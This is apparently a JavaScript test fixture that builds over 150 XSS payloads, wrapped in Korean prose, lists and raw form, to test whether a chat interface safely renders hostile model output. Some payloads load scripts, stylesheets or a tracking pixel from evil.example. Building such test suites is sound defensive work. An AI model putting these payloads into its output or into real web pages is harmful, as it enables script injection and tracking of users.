// XSS payloads delivered as model output. Each would set window.__xss (or change the
// title, or open a dialog) if it ran. Built from base vectors × the ways a model
// might wrap them (bare, inside a Korean sentence, in a list, a table, a quote).

const run = "window.__xss=1;document.title='XSS'";

/** Base vectors: HTML, event handlers, URL schemes, SVG/MathML, CSS, Markdown tricks, entities. */
export const baseVectors = [
    `<script>${run}</script>`,
    `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
    `<img src=x onerror="${run}">`,
    `<img src="x" onerror=${run}>`,
    `<svg onload="${run}"></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text x="0" y="20">클릭</text></a></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<object data="javascript:${run}"></object>`,
    `<embed src="javascript:${run}">`,
    `<body onload="${run}">`,
    `<details open ontoggle="${run}">펼치기</details>`,
    `<input autofocus onfocus="${run}">`,
    `<video><source onerror="${run}"></video>`,
    `<a href="javascript:${run}">링크</a>`,
    `<a href="&#106;avascript:${run}">엔티티 링크</a>`,
    `<form action="javascript:${run}"><button>보내기</button></form>`,
    `<div style="background:url(javascript:${run})">스타일</div>`,
    `<style>@import 'https://evil.example/x.css'; body{background:url("javascript:${run}")}</style>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<base href="javascript:${run}//">`,
    `<link rel="import" href="https://evil.example/x.html">`,
    `[마크다운 링크](javascript:${run})`,
    `[대소문자](JaVaScRiPt:${run})`,
    `[공백](java\tscript:${run})`,
    `[데이터](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)`,
    `[vbscript](vbscript:msgbox(1))`,
    `<javascript:${run}>`,
    `![이미지](javascript:${run})`,
    `![이미지](https://evil.example/x.png "onerror=${run}")`,
    `![추적](https://evil.example/pixel.gif)`,
    `[참조 링크][x]\n\n[x]: javascript:${run}`,
    `[제목 속성](https://example.com "\\" onmouseover=\\"${run}")`,
    `\`\`\`html\n<script>${run}</script>\n\`\`\``,
    `\`<img src=x onerror=${run}>\``,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#60;img src=x onerror=${run}&#62;`,
    `<!-- <script>${run}</script> -->`,
    `<![CDATA[<script>${run}</script>]]>`,
    `{{constructor.constructor('${run}')()}}`,
    `\${alert(1)} <%= ${run} %>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<img src=x:alert(1) onerror=eval(src)>`,
    `<a href="https://example.com" onclick="${run}">정상처럼 보이는 링크</a>`,
    `<marquee onstart="${run}">움직이는 글</marquee>`,
    `<isindex action="javascript:${run}" type=image>`,
    `<table background="javascript:${run}"><tr><td>표</td></tr></table>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><script>${run}</script></template>`,
    `<x onclick="${run}">사용자 정의 태그</x>`
];

const wrappers = [
    (v) => v,
    (v) => `이 함수는 입력을 검증합니다. ${v} 그리고 결과를 반환합니다.`,
    (v) => `- 첫째 항목\n- ${v}\n- 셋째 항목`
];

/** At least 150 payloads, each labelled "페이로드 N" so the test can find its readable text. */
export function xssPayloads() {
    const payloads = [];
    for (const wrap of wrappers) for (const vector of baseVectors) payloads.push(wrap(vector));
    return payloads.map((payload, index) => `페이로드 ${index + 1}: ${payload}`);
}
